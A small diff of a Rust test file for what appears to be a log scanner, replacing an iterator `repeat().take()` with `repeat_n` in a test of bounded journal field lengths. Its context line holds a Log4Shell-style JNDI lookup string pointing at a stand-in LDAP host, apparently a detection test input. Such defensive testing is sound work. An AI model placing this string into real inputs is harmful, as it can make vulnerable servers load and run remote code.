@@ -977,7 +977,7 @@ not a cri line ${jndi:ldap://stray.example/x}\n";
     fn journal_binary_field_claiming_a_huge_length_is_bounded() {
         let mut log = b"__CURSOR=s=1\nMESSAGE\n".to_vec();
         log.extend((1u64 << 40).to_le_bytes());
-        log.extend(std::iter::repeat(b'a').take(200_000));
+        log.extend(std::iter::repeat_n(b'a', 200_000));
         log.push(b'\n');
         let engine = Engine::builtin().unwrap();
         let cfg = ScanConfig { max_join: 4096, ..Default::default() };
